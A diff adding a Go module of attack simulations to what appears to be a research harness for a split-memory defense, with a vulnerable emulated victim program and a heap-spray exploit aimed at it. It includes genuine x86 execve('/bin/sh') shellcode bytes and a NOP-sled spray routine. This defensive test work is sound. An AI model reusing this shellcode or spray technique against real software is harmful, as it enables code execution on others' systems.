@@ -1,0 +1,150 @@
+package attacks
+
+import (
+	"fmt"
+
+	"splitmem"
+	"splitmem/internal/guest"
+)
+
+// Heap spraying: the browser-era refinement of code injection. The attacker
+// cannot leak an address, so instead they fill megabytes of heap with
+// [NOP sled + shellcode] copies and aim a corrupted code pointer anywhere
+// in the middle of the spray. No leak needed — exactly the class of attack
+// the paper's architectural argument covers: however the bytes arrive and
+// however the pointer is guessed, they only ever exist on data twins.
+
+// heapSpraySrc is a victim with a script-engine shape: it accepts "ALLOC
+// <n>" commands that copy attacker bytes onto fresh heap allocations (the
+// spray primitive), then "CALL <hexaddr>" invokes a "callback" at an
+// attacker-supplied address (standing in for a corrupted vtable entry).
+const heapSpraySrc = `
+_start:
+spray_loop:
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl spray_quit
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'A'
+    jz spray_alloc
+    cmp eax, 'C'
+    jz spray_call
+    cmp eax, 'Q'
+    jz spray_quit
+    jmp spray_loop
+
+spray_alloc:
+    ; "ALLOC <n>": allocate n bytes and fill them from the input stream
+    mov eax, linebuf
+    add eax, 6
+    push eax
+    call atoi
+    add esp, 4
+    mov esi, eax           ; n
+    push esi
+    call malloc
+    add esp, 4
+    push esi
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov eax, msg_ok
+    push eax
+    call print
+    add esp, 4
+    jmp spray_loop
+
+spray_call:
+    ; "CALL <hexaddr>": the corrupted virtual call
+    mov eax, linebuf
+    add eax, 5
+    push eax
+    call htoi
+    add esp, 4
+    call eax
+    jmp spray_loop
+
+spray_quit:
+    mov ebx, 0
+    mov eax, SYS_EXIT
+    int 0x80
+
+.data
+linebuf: .space 64
+msg_ok:  .asciz "OK\n"
+hexbuf:  .space 12
+`
+
+// PICShellcode builds position-independent execve("/bin/sh") shellcode
+// using the classic call/pop GetPC trick — no embedded absolute address, so
+// it runs wherever a spray block happens to land.
+//
+//	call .+0        ; pushes the address of the next instruction
+//	pop ebx         ; ebx = here
+//	add ebx, 14     ; ebx = &path
+//	mov eax, 11
+//	int 0x80
+//	path: "/bin/sh\0"
+func PICShellcode() []byte {
+	code := []byte{
+		0xE8, 0x00, 0x00, 0x00, 0x00, // call .+0
+		0x5B,                    // pop ebx
+		0x05, 0x03, 14, 0, 0, 0, // add ebx, 14
+		0xB8, 11, 0, 0, 0, // mov eax, SYS_EXECVE
+		0xCD, 0x80, // int 0x80
+	}
+	return append(code, []byte("/bin/sh\x00")...)
+}
+
+// RunHeapSpray sprays `blocks` copies of [NOP sled + PIC shellcode] onto
+// the victim's heap, then aims a blind virtual call into the middle of the
+// spray — no information leak anywhere.
+func RunHeapSpray(cfg splitmem.Config, blocks int) (Result, error) {
+	t, err := NewTarget(cfg, heapSpraySrc, "heapspray")
+	if err != nil {
+		return Result{}, err
+	}
+	const blockSize = 2048
+	chunk := (blockSize + 11) &^ 7 // allocator chunk stride
+
+	pic := PICShellcode()
+	block := NopSled(blockSize-len(pic), pic)
+
+	for i := 0; i < blocks; i++ {
+		t.SendLine(fmt.Sprintf("ALLOC %d", blockSize))
+		t.Send(block)
+		if _, ok := t.WaitOutput("OK"); !ok {
+			return Result{Notes: "spray rejected"}, nil
+		}
+		t.P.StdoutDrain()
+	}
+	// The attacker studied the binary offline: the heap begins one gap
+	// above the image. Precision does not matter — that is the point of
+	// the spray — so aim at the middle block with some slop.
+	prog, err := splitmem.Assemble(guest.WithCRT(heapSpraySrc))
+	if err != nil {
+		return Result{}, err
+	}
+	var imageEnd uint32
+	for i := range prog.Sections {
+		if end := prog.Sections[i].End(); end > imageEnd {
+			imageEnd = end
+		}
+	}
+	heapBase := (imageEnd + 0x10000 + 0xFFF) &^ uint32(0xFFF)
+	guess := heapBase + uint32(blocks/2*chunk) + 333
+
+	t.SendLine(fmt.Sprintf("CALL %08x", guess))
+	t.Run()
+	return t.Result(), nil
+}
